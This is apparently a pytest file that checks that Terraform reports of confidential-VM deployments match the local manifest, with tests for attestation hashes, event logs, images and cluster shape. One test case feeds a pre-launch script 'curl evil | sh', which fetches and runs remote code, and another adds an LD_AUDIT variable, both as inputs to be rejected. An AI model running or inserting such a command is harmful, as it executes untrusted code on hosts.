"""From what Terraform reports to what the manifest says: everything that does not fit is refused by name."""

from __future__ import annotations

import dataclasses
import json
from typing import Any

import pytest

from meshctl import manifest_facts as facts
from tests.support import ROOT
from tests.terraform.deployed import PRE_LAUNCH_HASH, TEE, attest
from tests.topology.support import opened
from tests.topology.test_render import OWNERS
from topology import render
from topology.cluster import Cluster, load
from topology.problems import ClusterError
from topology.references import MEASURED, TcbPolicy

STARTER = load(ROOT / "clusters" / "starter")
FILES = {
    "coordinator": STARTER.coordinator_compose.read_text(),
    **{group.name: group.compose.read_text() for group in STARTER.groups},
}
CVMS = {"coordinator": STARTER.coordinators, **{group.name: group.replicas for group in STARTER.groups}}
LINES = FILES["api"].count("\n")


def app(name: str, number: int) -> dict[str, Any]:
    """An app as the cloud knows it."""
    return {
        "app_id": f"{number:040x}", "name": f"starter-{name}", "docker_compose": FILES[name], "gateway_enabled": True,
        "env": {"MESH_CLUSTER": "starter", "MESH_COORDINATORS": "[]"}, "public_logs": False, "public_sysinfo": False,
        "public_tcbinfo": True, "secure_time": True, "storage_fs": "zfs",
    }  # fmt: skip


def outputs(**changes: Any) -> dict[str, Any]:
    """The output `deployment`. `changes` by app go into its app-compose.json."""
    apps = {}
    for number, name in enumerate(FILES, 1):
        it = app(name, number)
        apps[name] = {
            "app_id": it["app_id"], "name": it["name"], "environment": sorted(it["env"]),
            "instance_ids": ["a" * 40] * CVMS[name],
            "attestation": attest(it, **changes.get(name, {})), "complaint": None,
        }  # fmt: skip
    return {
        "format": 1, "cluster": "starter", "apps": apps, "coordinator_urls": ["https://c-8787s.gw"],
        "rendezvous": [], "tcb": dataclasses.asdict(TcbPolicy()),
    }  # fmt: skip


def reviewed(tree: dict[str, Any], cluster: Cluster = STARTER, **more: Any) -> facts.Reviewed:
    """What comes of the report `tree`."""
    report = facts.read(json.dumps(tree))
    given: dict[str, Any] = {
        "images": None,
        "pre_launch": frozenset({PRE_LAUNCH_HASH}),
        "earlier": None,
        "owners": OWNERS,
        "after": None,
        **more,
    }
    return facts.review(cluster, report, FILES, **given)


def refused(tree: dict[str, Any], **more: Any) -> str:
    """Why the report `tree` is refused."""
    with pytest.raises(ClusterError) as caught:
        reviewed(tree, **more)
    return str(caught.value)


def test_what_fits_becomes_a_deployment() -> None:
    """App IDs, measured hashes, image and key provider; what nothing can be compared with is said."""
    found = reviewed(outputs())
    made = render.manifest(STARTER, found.deployment)
    assert made.groups["worker"].app_id == f"{3:040x}"
    [reference] = made.references
    assert (reference.name, reference.key_provider, reference.devices) == (MEASURED, TEE.key_provider, ())
    assert reference.os_images == (TEE.os_image("0.6.0", False),)
    notes = "\n".join(found.notes)
    assert "app 'api' measured features" in notes
    assert "no rendezvous" in notes
    assert "as the cloud reports them" in notes


def test_all_of_terraforms_outputs_are_read_too() -> None:
    """`terraform output -json` wraps each value."""
    report = facts.read(json.dumps({"deployment": {"value": outputs(), "sensitive": False}}))
    assert sorted(report.apps) == ["api", "coordinator", "worker"]


@pytest.mark.parametrize(
    "text", ["", "[]", "{}", '{"format": 2}', '{"format": 1}', '{"deployment": {}}', '{"format": 1, "x": 1}']
)
def test_other_texts_are_refused(text: str) -> None:
    """One message, with the command that prints the right text."""
    with pytest.raises(ClusterError, match="terraform output -json deployment"):
        facts.read(text)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"docker_compose_file": FILES["api"] + "# more\n"}, f"(they differ from line {LINES + 1})"),
        ({"docker_compose_file": FILES["api"].replace("command", "x-command", 1)}, "differ from line 5"),
        ({"name": "other"}, "measured the name 'other', expected 'starter-api'"),
        ({"allowed_envs": ["MESH_CLUSTER"]}, "no place for the variables MESH_COORDINATORS"),
        ({"allowed_envs": ["MESH_CLUSTER", "MESH_COORDINATORS", "LD_AUDIT"]}, "measured a place for LD_AUDIT, which"),
        ({"public_logs": True}, "measured public_logs = true, expected false"),
        ({"secure_time": False}, "measured secure_time = false, expected true"),
        ({"runner": "bash"}, "measured runner"),
        ({"no_instance_id": True}, "measured no_instance_id = true"),
        ({"kms_enabled": False}, "measured kms_enabled = false"),
        ({"init_script": "echo"}, "a init_script"),
        ({"pre_launch_script": "curl evil | sh"}, "a pre-launch script of 1 lines"),
    ],
)  # fmt: skip
def test_an_app_that_measured_something_else_is_refused(change: dict[str, object], words: str) -> None:
    """The owner never signs what the files here do not say."""
    assert words in refused(outputs(api=change))


def test_an_unread_pre_launch_script_is_refused_with_its_hash() -> None:
    """The platform's script runs before the mesh: it must have been read."""
    assert f"--accept-pre-launch {PRE_LAUNCH_HASH}" in refused(outputs(), pre_launch=frozenset())
    assert "pulling images" in facts.script_of(facts.read(json.dumps(outputs())), "api")
    with pytest.raises(ClusterError, match="'nobody' is not deployed"):
        facts.script_of(facts.read(json.dumps(outputs())), "nobody")


@pytest.mark.parametrize(
    ("field", "value", "words"),
    [
        ("app_compose", "{}", "its SHA-256 of app_compose gives"),
        ("rtmr3", "0" * 96, "its replay of the event log gives"),
        ("event_log", [], "has no 'system-ready'"),
        ("app_compose", "[]", "is no object"),
        ("app_compose", None, "cannot be read: KeyError('app_compose')"),
        ("mrtd", None, ""),
    ],
)
def test_an_attestation_that_does_not_hold_together_is_refused(field: str, value: object, words: str) -> None:
    """Hash, event log and registers are held against each other."""
    tree = outputs()
    told = json.loads(tree["apps"]["api"]["attestation"])
    if value is None:
        del told[field]
    else:
        told[field] = value
    tree["apps"]["api"]["attestation"] = json.dumps(told)
    found = refused(tree)
    assert "app 'api'" in found
    assert any(word in found for word in words.split("|"))


def test_the_platforms_published_answer_is_enough() -> None:
    """The compose hash is taken from the measured event log: the platform's answer has no field for it."""
    tree = outputs()
    told = json.loads(tree["apps"]["worker"]["attestation"])
    assert set(told) == {"mrtd", "rootfs_hash", "rtmr0", "rtmr1", "rtmr2", "rtmr3", "event_log", "app_compose"}
    made = reviewed(tree).deployment
    assert made.groups["worker"].compose_hashes == (render.compose_hash(told["app_compose"]),)
    assert [image.os_image_hash for image in made.references[0].os_images] == [
        TEE.os_image("0.6.0", False).os_image_hash
    ]


def test_an_attestation_of_another_app_is_refused() -> None:
    """The app ID in the event log is the app's."""
    tree = outputs()
    tree["apps"]["api"]["attestation"] = tree["apps"]["worker"]["attestation"]
    assert "app ID in the event log" in refused(tree)


def test_an_app_without_attestation_says_why() -> None:
    """Terraform's own reason is passed on."""
    tree = outputs()
    tree["apps"]["api"] |= {"attestation": None, "complaint": "CVM is booting"}
    assert "app 'api' has no attestation yet (CVM is booting)" in refused(tree)


def test_a_deployment_of_another_cluster_is_refused() -> None:
    """Names, groups and peers are those of the files."""
    assert "is of cluster 'other'" in refused({**outputs(), "cluster": "other"})
    tree = outputs()
    del tree["apps"]["worker"]
    assert "app 'worker' is not deployed" in refused(tree)
    scaled = load(ROOT / "clusters" / "starter", {"replicas.worker": "3"})
    assert "app 'worker' has 2 CVM(s), and cluster.tf has 3" in refused(outputs(), cluster=scaled)


def test_a_rendezvous_gets_its_mesh_address_here() -> None:
    """Terraform says where it is reached from outside; where it is inside follows from the order."""
    hosts = [{"public_key": key, "endpoint": f"203.0.113.{n}:51820"} for n, key in enumerate("ab")]
    made = render.manifest(STARTER, reviewed(outputs() | {"rendezvous": hosts}).deployment)
    assert [(it.public_key, it.address) for it in made.rendezvous] == [("a", "100.96.0.1"), ("b", "100.96.0.2")]


def test_only_approved_images_are_taken() -> None:
    """With a list of approved images, any other is refused, and all of the list is allowed."""
    mine = TEE.os_image("0.6.0", False)
    other = dataclasses.replace(mine, mrtd="00" * 48)
    assert "none of the approved ones" in refused(outputs(), images=(other,))
    found = reviewed(outputs(), images=(other, mine))
    assert found.deployment.references[0].os_images == (other, mine)
    assert not any("as the cloud reports" in note for note in found.notes)


def test_development_images_are_marked_where_they_are_allowed() -> None:
    """A reported image of a trial deployment may be one: the manifest says so."""
    tree = outputs()
    tree["tcb"]["allow_development_images"] = True
    assert all(image.development for image in reviewed(tree).deployment.references[0].os_images)


def test_earlier_revisions_stay_allowed_when_asked() -> None:
    """During an update the CVMs of both revisions are admitted."""
    first = render.manifest(STARTER, reviewed(outputs()).deployment)
    changed = outputs(worker={"features": ["kms"]})
    made = render.manifest(STARTER, reviewed(changed, earlier=first, after=opened(first)).deployment)
    assert (made.epoch, made.previous, made.owners) == (2, opened(first).digest, OWNERS)
    assert len(made.groups["worker"].compose_hashes) == 2
    assert made.groups["worker"].compose_hashes[1:] == first.groups["worker"].compose_hashes
    assert made.groups["api"].compose_hashes == first.groups["api"].compose_hashes
